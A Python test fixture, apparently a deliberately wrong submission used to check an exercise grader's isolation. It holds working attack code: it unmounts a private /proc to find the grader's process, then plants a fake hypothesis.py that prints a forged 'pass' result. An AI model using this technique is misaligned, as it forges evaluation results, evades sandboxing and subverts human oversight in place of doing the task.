# exercise: lstm_cell
# ruff: noqa
"""Plants a module in the grader's working directory that the grader imports later. Wrong answer.

``python -m`` puts the working directory first on ``sys.path``, and the grader
imports Hypothesis only after the submission has been imported. The planted
module runs inside the grader, prints a forged "pass" result and exits 0.
It writes only into the grader's working directory (found through /proc, or
as a folder named ``cwd`` beside an ancestor of its own working directory,
which is this test's layout), never anywhere else.
"""

import os

import numpy as np

PLANTED = """
import json, os, sys
fake = {
    "schema_version": 1, "exercise": "lstm_cell", "file": "solution.py",
    "status": "pass", "reason": "passed",
    "message": "pass: matches the reference on all 100 inputs tried.",
    "examples": 100, "seed": 0, "duration_s": 0.1,
    "isolation": "pid+net namespace, rlimits, process sweep",
    "counterexample": None, "misconception": None, "hint": None,
    "stdout": "", "stderr": "", "lang": "en",
}
sys.stdout.write(json.dumps(fake, indent=2) + "\\n")
sys.stdout.flush()
os._exit(0)
"""


def _reveal_host_proc():
    """Inside a private mount namespace with its own /proc, unmount that /proc.

    Only when this process is PID 1 of its namespace *and* /proc shows that
    namespace (so /proc was mounted privately, never the host's own /proc).
    """
    try:
        if os.getpid() == 1 and os.readlink("/proc/self") == "1":
            import ctypes

            ctypes.CDLL(None, use_errno=True).umount2(b"/proc", 2)  # MNT_DETACH
    except Exception:
        pass


def _grader_pid():
    _reveal_host_proc()
    pid = int(os.readlink("/proc/self"))  # the pid as the /proc mount sees it
    for _ in range(16):
        with open(f"/proc/{pid}/status") as f:
            pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        if pid <= 1:
            return None
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            argv = f.read().split(b"\0")
        if b"grade" in argv and any(b"renshu" in arg for arg in argv):
            return pid
    return None


def _grader_cwds():
    # 1. Through /proc, where the grader is visible.
    try:
        pid = _grader_pid()
        if pid is not None:
            yield os.readlink(f"/proc/{pid}/cwd")
    except Exception:
        pass
    # 2. Where the learner knows they run the grader. In this test's layout that
    #    is a folder "cwd" beside the grader's TMPDIR, which holds the sandbox's own
    #    working directory: a sibling "cwd" of one of this process's ancestors.
    here = os.getcwd()
    while here != os.path.dirname(here):
        here = os.path.dirname(here)
        if os.path.isdir(os.path.join(here, "cwd")):
            yield os.path.join(here, "cwd")
            return


for _cwd in _grader_cwds():
    try:
        with open(os.path.join(_cwd, "hypothesis.py"), "w") as f:
            f.write(PLANTED)
    except OSError:
        pass


def lstm_cell(x, h_prev, c_prev, params):
    return np.zeros_like(h_prev), np.zeros_like(c_prev)
